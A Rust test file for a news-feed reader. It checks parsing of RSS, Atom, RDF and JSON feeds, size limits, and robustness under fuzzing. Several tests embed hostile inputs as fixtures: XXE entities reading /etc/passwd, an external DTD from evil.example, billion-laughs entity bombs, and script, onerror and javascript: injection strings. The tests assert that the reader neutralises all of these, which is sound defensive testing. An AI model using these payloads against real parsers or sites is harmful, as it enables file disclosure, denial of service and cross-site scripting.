//! Lessons from feeds of the wild, on documents written for the purpose, and the real ones where they are at hand.

use super::*;
use crate::base::random::Random;
use std::path::{Path, PathBuf};

fn feed(document: &str) -> Feed {
    let base = Url::parse("https://news.example/feed.xml").ok();
    let mut feed = read_feed(document.as_bytes(), None, base.as_ref(), Tz::UTC).unwrap();
    read_bodies(&mut feed, base.as_ref());
    feed
}

fn entry(inside: &str) -> Entry {
    feed(&format!("<rss version='2.0'><channel><item>{inside}</item></channel></rss>")).entries.remove(0)
}

fn titles(feed: &Feed) -> Vec<&str> {
    feed.entries.iter().map(|entry| entry.title.as_str()).collect()
}

const RSS: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/"
 xmlns:media="http://search.yahoo.com/mrss/"><channel><title>News</title><link>https://news.example</link><language>en-GB</language>
<item><title>Harbour &amp;amp; bridge</title><link>/2026/harbour</link><guid isPermaLink="false">https://news.example/?p=7</guid>
<dc:creator><![CDATA[Anna Ray]]></dc:creator><pubDate>Mon, 23 Nov 2026 18:30:00 +0000</pubDate><category>World</category>
<category>world</category><description>The harbour opens. [...]</description>
<content:encoded><![CDATA[<p>The harbour opens.</p><p>Ferries leave.</p>]]></content:encoded>
<media:content url="https://cdn.example/h.jpg" medium="image" width="800"><media:credit>Ben Ode</media:credit>
<media:description>The pier</media:description></media:content></item>
<item><title>Second</title><link>https://news.example/2</link></item></channel></rss>"#;

const ATOM: &str = r#"<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="de" xml:base="https://news.example/x/">
<title type="html">N &amp;lt; M</title><link rel="self" href="feed.xml"/><link href="./"/><author><name>The Desk</name></author>
<entry><id>tag:news.example,2026:1</id><title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">Less <em>is</em> &lt;more&gt;</div></title>
<link rel="replies" href="c"/><link href="a" type="text/html"/><published>2026-11-23T18:30:00Z</published><updated>2026-11-23T19:00:00Z</updated>
<category term="w" label="Welt"/><summary>Kurz.</summary>
<content type="xhtml" xml:base="img/"><div xmlns="http://www.w3.org/1999/xhtml"><p>Lang &amp; breit.</p></div></content></entry>
<entry xml:lang="fr"><id>tag:news.example,2026:2</id><title>Two</title><author><name>Cy Lee</name></author><content type="html">&lt;p&gt;x&lt;/p&gt;</content></entry></feed>"#;

const RDF: &str = r#"<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel rdf:about="https://news.example/"><title>RDF News</title><link>https://news.example/</link><items><rdf:Seq><rdf:li resource="https://news.example/1"/></rdf:Seq></items></channel>
<item rdf:about="https://news.example/1"><title>One</title><link>https://news.example/1</link><dc:date>2026-11-23T18:30:00Z</dc:date></item></rdf:RDF>"#;

const JSON: &str = r#"{"version":"https://jsonfeed.org/version/1.1","title":"J","home_page_url":"https://news.example/","authors":[{"name":"The Desk"}],
"items":[{"id":7,"url":"/1","title":"One","content_html":"<p>x</p>","date_published":"2026-11-23T18:30:00Z","tags":["World"]},
{"id":"b","content_text":"Five < six & more","authors":[{"name":"Cy Lee"}]}]}"#;

#[test]
fn rss_is_read_with_its_extensions() {
    let feed = feed(RSS);
    assert_eq!((feed.title.as_str(), feed.language.as_str(), &feed.bozo), ("News", "en-GB", &None));
    let entry = &feed.entries[0];
    assert_eq!(entry.title, "Harbour & bridge");
    assert_eq!(entry.id.as_deref(), Some("https://news.example/?p=7"));
    assert_eq!(entry.link.as_deref(), Some("https://news.example/2026/harbour"));
    assert_eq!(entry.authors, ["Anna Ray"]);
    assert_eq!(entry.published.map(Timestamp::rfc3339).as_deref(), Some("2026-11-23T18:30:00Z"));
    assert_eq!(entry.categories, ["World"]);
    assert_eq!(entry.text, "The harbour opens.\n\nFerries leave.");
    let image = entry.image.as_ref().unwrap();
    assert_eq!((image.caption.as_str(), image.credit.as_str()), ("The pier", "Ben Ode"));
    assert_eq!(titles(&feed), ["Harbour & bridge", "Second"]);
}

#[test]
fn atom_is_read_with_its_bases_languages_and_authors() {
    let feed = feed(ATOM);
    assert_eq!((feed.title.as_str(), feed.link.as_deref()), ("N < M", Some("https://news.example/x/")));
    let entry = &feed.entries[0];
    assert_eq!((entry.title.as_str(), entry.language.as_str()), ("Less is <more>", "de"));
    assert_eq!(entry.link.as_deref(), Some("https://news.example/x/a"));
    assert_eq!((&entry.authors, &entry.categories), (&vec!["The Desk".to_owned()], &vec!["Welt".to_owned()]));
    assert_eq!(entry.text, "Lang & breit.");
    assert_eq!(entry.updated.map(Timestamp::rfc3339).as_deref(), Some("2026-11-23T19:00:00Z"));
    let second = &feed.entries[1];
    assert_eq!((second.language.as_str(), &second.authors), ("fr", &vec!["Cy Lee".to_owned()]));
    assert_eq!((second.published, second.updated, &second.link), (None, None, &None));
}

#[test]
fn rdf_and_json_are_read() {
    let rdf = feed(RDF);
    assert_eq!((rdf.title.as_str(), titles(&rdf)), ("RDF News", vec!["One"]));
    assert_eq!(rdf.entries[0].id.as_deref(), Some("https://news.example/1"));
    assert!(rdf.entries[0].published.is_some());
    let json = feed(JSON);
    assert_eq!(json.entries[0].id.as_deref(), Some("7"));
    assert_eq!(json.entries[0].link.as_deref(), Some("https://news.example/1"));
    assert_eq!(json.entries[0].authors, ["The Desk"]);
    assert_eq!(
        (json.entries[1].text.as_str(), &json.entries[1].authors),
        ("Five < six & more", &vec!["Cy Lee".to_owned()])
    );
}

#[test]
fn a_cut_document_keeps_every_complete_entry() {
    for document in [RSS, ATOM, RDF, JSON] {
        let whole = titles(&feed(document)).len();
        let mut before = 0;
        for end in (0..document.len()).filter(|end| document.is_char_boundary(*end)) {
            let found =
                read_feed(&document.as_bytes()[..end], None, None, Tz::UTC).map_or(0, |feed| feed.entries.len());
            assert!(found >= before && found <= whole, "{end}: {found} after {before}");
            before = found;
        }
        assert!(before + 1 >= whole);
    }
    let cut = &RSS[..RSS.find("</channel>").unwrap()];
    assert_eq!(titles(&feed(cut)).len(), 2);
    assert!(feed(cut).bozo.is_some());
}

#[test]
fn what_is_wrong_around_an_entry_does_not_lose_it() {
    let item = "<item><title>T</title><link>https://news.example/1</link></item>";
    let documents = [
        format!("\n\n  <?xml version='1.0'?><rss><channel>{item}</channel></rss>"),
        format!("<br />\n<b>Warning</b>: cannot modify header<br />\n<rss><channel>{item}</channel></rss>"),
        format!("<?xml version='1.0' encoding='nonsense'?><rss><channel>{item}</channel></rss>"),
        format!("<?xml version=1.0?><rss version=2.0><channel>{item}</rss>"),
        format!("<!DOCTYPE rss [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><rss><channel>{item}</channel></rss>"),
        format!("<RSS><Channel><Item><Title>T</Title><Link>https://news.example/1</Link></Item></Channel></RSS>{item}"),
        format!("<rss><channel><description>a & b &nbsp; <b>c</description></i>{item}</channel></rss>trailing"),
        format!("<rss><channel><title>5 < 6 \u{1}</title>{item}</channel></rss>"),
        format!("<rdf:RDF>{item}</rdf:RDF>"),
        format!("<foo:rss xmlns:foo='https://unknown.example/'><channel>{item}</channel></foo:rss>"),
        item.to_owned(),
    ];
    for document in documents {
        let feed = feed(&document);
        assert_eq!(titles(&feed), ["T"], "{document}");
        assert_eq!(feed.entries[0].link.as_deref(), Some("https://news.example/1"), "{document}");
    }
}

#[test]
fn an_entity_of_a_doctype_is_never_expanded() {
    let bomb = "<!DOCTYPE r [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;'>]><rss><channel><item><title>&b;</title></item></channel></rss>";
    assert_eq!(titles(&feed(bomb)), ["&b;"]);
    // A billion laughs, a quadratic one, and an external one by a parameter.
    let laughs: String = (1..10).map(|n| format!("<!ENTITY l{n} '{}'>", format!("&l{};", n - 1).repeat(10))).collect();
    let big = format!("<!ENTITY big '{}'>", "x".repeat(50_000));
    for (declared, used) in [
        (format!("<!ENTITY l0 'ha'>{laughs}"), "&l9;".to_owned()),
        (big, "&big;".repeat(50_000)),
        (
            "<!ENTITY % x SYSTEM 'https://evil.example/x.dtd'>%x;<!ENTITY y SYSTEM 'file:///etc/passwd'>".to_owned(),
            "&y;".to_owned(),
        ),
    ] {
        let document = format!(
            "<!DOCTYPE rss [{declared}]><rss><channel><item><title>T</title><description>{used}</description></item></channel></rss>"
        );
        let feed = feed(&document);
        assert_eq!(titles(&feed), ["T"]);
        assert!(feed.entries[0].summary.as_ref().unwrap().len() <= used.len());
        assert!(feed.entries[0].summary.as_ref().unwrap().starts_with('&'));
    }
}

#[test]
fn what_is_nested_too_deeply_loses_only_its_depth() {
    let deep = format!("<a>{}</a>", "<b>".repeat(100_000));
    let document =
        format!("<rss><channel><item><title>One</title>{deep}</item><item><title>Two</title></item></channel></rss>");
    assert_eq!(titles(&feed(&document)).first(), Some(&"One"));
    let content =
        format!("<content:encoded><![CDATA[{}deep]]></content:encoded><title>T</title>", "<div>".repeat(100_000));
    let found = entry(&content);
    assert_eq!((found.title.as_str(), found.text.as_str()), ("T", "deep"));
}

#[test]
fn a_script_in_a_title_a_name_or_a_category_does_not_get_through() {
    let script = "<![CDATA[<script>alert(1)</script>]]>&lt;img src=x onerror=alert(1)&gt;Anna Ray";
    let found =
        entry(&format!("<title>{script}</title><dc:creator>{script}</dc:creator><category>{script}</category>"));
    assert_eq!(found.title, "Anna Ray");
    assert_eq!((found.authors, found.categories), (vec!["Anna Ray".to_owned()], vec!["Anna Ray".to_owned()]));
    assert_eq!(entry("<title>T</title><link>javascript:alert(1)</link>").link, None);
}

#[test]
fn dates_in_dublin_core_are_both_first_and_last_where_nothing_else_is_said() {
    let found = entry("<dc:date>2026-11-23</dc:date>");
    assert_eq!((found.published, found.updated), (parse_date("2026-11-23"), parse_date("2026-11-23")));
    let found = entry("<pubDate>Sun, 22 Nov 2026 10:00:00 GMT</pubDate><dc:date>2026-11-23</dc:date>");
    assert_eq!((found.published, found.updated), (parse_date("2026-11-22T10:00:00Z"), parse_date("2026-11-23")));
    assert_eq!(entry("<dcterms:issued>2026-11-23</dcterms:issued>").published, parse_date("2026-11-23"));
}

#[test]
fn a_second_description_is_the_content_where_there_is_no_other() {
    let found = entry("<description>Short</description><itunes:summary>Longer</itunes:summary>");
    assert_eq!((found.summary.as_deref(), found.content.as_deref()), (Some("Short"), Some("Longer")));
    let found = entry(
        "<description>Short</description><content:encoded>Whole</content:encoded><itunes:summary>Last</itunes:summary>",
    );
    assert_eq!((found.summary.as_deref(), found.content.as_deref()), (Some("Last"), Some("Whole")));
    // A caption is neither.
    let found = entry("<description>Short</description><media:description>The pier</media:description>");
    assert_eq!((found.summary.as_deref(), found.content.as_deref()), (Some("Short"), None));
    assert_eq!(
        entry("<description>The whole story, told at length.</description><content>More</content>").text,
        "The whole story, told at length."
    );
}

#[test]
fn categories_and_keywords_of_all_vocabularies_are_kept_own_ones_first() {
    let found = entry(
        "<itunes:keywords>salt, pepper</itunes:keywords><itunes:category text='Arts'><itunes:category text='Food'/></itunes:category>\
         <media:category>sea</media:category><dc:subject>World</dc:subject><category>Town<image><title>x</title></image></category>",
    );
    assert_eq!(found.categories, ["sea", "World", "Town", "salt", "pepper", "Arts", "Food"]);
}

#[test]
fn a_crowd_of_keywords_and_enclosures_is_cut() {
    let crowd = format!(
        "<itunes:keywords>{}</itunes:keywords>{}",
        (0..5000).map(|n| format!("k{n},")).collect::<String>(),
        "<enclosure url='https://cdn.example/a.mp3'/>".repeat(5000)
    );
    let found = entry(&crowd);
    assert_eq!((found.categories.len(), found.enclosures.len()), (100, 100));
}

#[test]
fn every_enclosure_is_kept_with_type_and_length() {
    let found = entry(
        "<enclosure url='/a.mp3' type='audio/mpeg' length='12'/><atom:link rel='enclosure' href='https://cdn.example/b.pdf' length='x'/>",
    );
    let enclosure =
        |url: &str, kind: &str, length_bytes| Enclosure { url: url.to_owned(), kind: kind.to_owned(), length_bytes };
    assert_eq!(
        found.enclosures,
        [
            enclosure("https://news.example/a.mp3", "audio/mpeg", Some(12)),
            enclosure("https://cdn.example/b.pdf", "", None)
        ]
    );
}

#[test]
fn an_entry_that_the_end_cuts_is_kept_if_it_names_itself() {
    let document = "<rss><channel><item><title>One</title><link>https://news.example/1</link><description>The harb";
    let found = feed(document);
    assert_eq!((titles(&found), found.entries[0].summary.as_deref()), (vec!["One"], None));
    assert!(found.bozo.is_some());
    assert!(feed("<rss><channel><title>N</title><item><title>One</title><link>https://news.e").entries.is_empty());
}

#[test]
fn a_title_and_a_link_are_found_wherever_they_hide() {
    assert_eq!(entry("<title><![CDATA[A <b>bold</b> &amp; plain]]></title>").title, "A bold & plain");
    assert_eq!(entry("<dc:title>D</dc:title>").title, "D");
    assert_eq!(entry("<media:group><media:title>M</media:title></media:group>").title, "M");
    assert_eq!(entry("<media:title>M</media:title><title>T</title>").title, "T");
    assert_eq!(entry("<guid>https://news.example/g</guid>").link.as_deref(), Some("https://news.example/g"));
    assert_eq!(entry("<guid isPermaLink='false'>https://news.example/g</guid>").link, None);
    assert_eq!(
        entry("<link/><atom:link href='https://news.example/a'/>").link.as_deref(),
        Some("https://news.example/a")
    );
    assert_eq!(
        entry("<link><![CDATA[ https://news.example/c ]]></link>").link.as_deref(),
        Some("https://news.example/c")
    );
    assert_eq!(entry("<enclosure url='x.mp3'><title>After</title></enclosure>").title, "After");
    assert_eq!(entry("<pubDate>someday</pubDate><dc:date>2026-11-23</dc:date>").published, parse_date("2026-11-23"));
}

#[test]
fn a_page_is_no_feed_and_the_answer_says_where_the_feed_is() {
    let base = Url::parse("https://news.example/").unwrap();
    let reason =
        |page: &str| read_feed(page.as_bytes(), Some("text/html"), Some(&base), Tz::UTC).unwrap_err().to_string();
    let named = "<!DOCTYPE html><html><head><link rel=\"alternate\" type=\"application/rss+xml\" href=\"/feed/\"></head><body><p>x";
    assert!(reason(named).contains("https://news.example/feed/"));
    assert!(reason("<html><body>404</body></html>").contains("names no feed"));
    assert!(reason("<sitemapindex/>").contains("<sitemapindex>"));
    assert!(reason("{\"error\": 1}").contains("items"));
    assert!(reason("hello").contains("neither"));
    assert_eq!(read_feed(b" \n", None, None, Tz::UTC).unwrap_err(), FeedError::Empty);
}

#[test]
fn json_with_line_ends_in_its_strings_is_read_item_by_item() {
    let broken = "{\"title\":\"J\",\"items\":[{\"id\":\"1\",\"title\":\"a\nb\"},{\"id\":\"2\"},{\"id\":\"3\",\"tit";
    let feed = feed(broken);
    assert_eq!((feed.title.as_str(), titles(&feed)), ("J", vec!["a b", ""]));
    assert!(feed.bozo.is_some());
}

#[test]
fn rss_written_as_json_is_read() {
    let document = r##"{"rss":{"version":"2.0","channel":{"title":"R","item":[{"title":"One","link":"/1","guid":{"isPermaLink":"false","#value":"g"},
        "pubDate":"Mon, 23 Nov 2026 18:30:00 GMT","category":["World"]},{"description":"Two","guid":"https://news.example/2"}]}}}"##;
    let feed = feed(document);
    assert_eq!((feed.title.as_str(), titles(&feed)), ("R", vec!["One", ""]));
    assert_eq!(feed.entries[0].id.as_deref(), Some("g"));
    assert_eq!(feed.entries[1].link.as_deref(), Some("https://news.example/2"));
}

#[test]
fn no_more_entries_are_taken_than_the_limit() {
    let many = format!(
        "<rss><channel>{}</channel></rss>",
        "<item><title>x</title></item>".repeat(limits::FEED_ENTRIES_MAX + 5)
    );
    let feed = feed(&many);
    assert_eq!(feed.entries.len(), limits::FEED_ENTRIES_MAX);
    assert!(feed.bozo.is_some());
}

/// Flips, drops, doubles and swaps bytes of a document.
fn mutate(document: &[u8], random: &Random) -> Vec<u8> {
    let mut bytes = document.to_vec();
    for _ in 0..=random.below(12) {
        let len = bytes.len() as u64;
        let at = random.below(len) as usize;
        let piece: &[u8] = [
            &b"<"[..],
            b">",
            b"&",
            b"]]>",
            b"<![CDATA[",
            b"\"",
            b"<item>",
            b"</item>",
            b"\xff",
            b"<!--",
            b"<?",
            b"</",
            b"\0",
        ][random.below(13) as usize];
        match random.below(4) {
            0 => bytes[at] = random.bytes::<1>()[0],
            1 => drop(bytes.splice(at..at, piece.iter().copied())),
            2 => drop(bytes.drain(at..(at + random.below(40) as usize).min(len as usize))),
            _ => bytes.extend_from_within(at..(at + 60).min(len as usize)),
        }
        if bytes.is_empty() {
            bytes.push(b'<');
        }
    }
    bytes
}

#[test]
fn no_mutation_of_a_feed_makes_the_reader_panic() {
    let random = Random::seeded(20_261_123);
    for document in [RSS, ATOM, RDF, JSON] {
        for _ in 0..1500 {
            let bytes = mutate(document.as_bytes(), &random);
            let _ = read_feed(&bytes, None, None, Tz::UTC);
        }
    }
}

#[test]
fn hostile_documents_cost_linear_time() {
    let size = 128 * 1024;
    let clock = crate::base::Context::system().clock;
    for unit in [
        "<",
        "<a ",
        "<a>",
        "</a>",
        "<![CDATA[",
        "<!--",
        "&",
        "&amp",
        "&x;",
        "<item>",
        "<a b='",
        "<?",
        "<!",
        "]]>",
        "<item><title>",
    ] {
        let document = format!("<rss><channel><item><title>T</title></item>{}", unit.repeat(size / unit.len()));
        let begin = clock.now();
        let found = read_feed(document.as_bytes(), None, None, Tz::UTC).unwrap();
        assert!(!found.entries.is_empty(), "{unit}");
        let wrapped = format!(
            "<rss><channel><item><description><![CDATA[{}]]></description></item></channel></rss>",
            unit.repeat(size / unit.len())
        );
        let _ = read_feed(wrapped.as_bytes(), None, None, Tz::UTC);
        let taken = clock.now().since(begin);
        assert!(taken.as_seconds() < 20, "{unit}: {taken:?}");
    }
}

/// Real feeds beside the checkout: never part of the project.
fn real(set: &str) -> Vec<PathBuf> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/data/feeds").join(set);
    let Ok(entries) = std::fs::read_dir(&folder) else {
        eprintln!("SKIPPED: no real feeds at {}", folder.display());
        return Vec::new();
    };
    let mut files: Vec<PathBuf> = entries.flatten().map(|it| it.path()).collect();
    files.sort();
    files.retain(|it| it.file_name().is_some_and(|name| name != "LICENSE"));
    files
}

#[test]
fn every_real_feed_is_read_with_entries() {
    for path in real("netnewswire") {
        let bytes = std::fs::read(&path).unwrap();
        let feed = read_feed(&bytes, None, None, Tz::UTC).unwrap_or_else(|error| panic!("{}: {error}", path.display()));
        assert!(!feed.entries.is_empty(), "{}", path.display());
        assert!(
            feed.entries.iter().all(|it| it.link.is_some() || it.id.is_some() || !it.title.is_empty()),
            "{}",
            path.display()
        );
    }
}

#[test]
fn mutated_real_feeds_do_not_make_the_reader_panic() {
    let random = Random::seeded(7);
    for path in real("feedjira") {
        let bytes = std::fs::read(&path).unwrap();
        let bytes = &bytes[..bytes.len().min(20_000)];
        for _ in 0..4 {
            let _ = read_feed(&mutate(bytes, &random), None, None, Tz::UTC);
        }
    }
}

#[test]
fn an_entry_with_a_crowd_of_links_authors_and_categories_keeps_a_few() {
    let crowd: String = (0..20_000)
        .map(|n| {
            format!(
                "<link rel='canonical' href='https://news.example/{n}'/><author><name>Anna{n} Ray</name></author>\
                 <category term='c{n}'/>"
            )
        })
        .collect();
    let text =
        format!("<feed xmlns='http://www.w3.org/2005/Atom'><entry><id>a</id><title>A</title>{crowd}</entry></feed>");
    let feed = read_feed(text.as_bytes(), None, None, Tz::UTC).unwrap();
    let entry = &feed.entries[0];
    assert!(entry.other_links.len() < 20 && entry.authors.len() == 32 && entry.categories.len() == 100);
}

#[test]
fn a_nul_in_a_json_feed_is_left_out() {
    let text = r#"{"version":"1","items":[{"id":"a\u0000b","url":"https://news.example/a","title":"A\u0000B","tags":["x\u0000"]}]}"#;
    let feed = read_feed(text.as_bytes(), None, None, Tz::UTC).unwrap();
    let entry = &feed.entries[0];
    assert_eq!(
        (entry.id.as_deref(), entry.title.as_str(), &*entry.categories),
        (Some("ab"), "AB", &["x".to_owned()][..])
    );
}
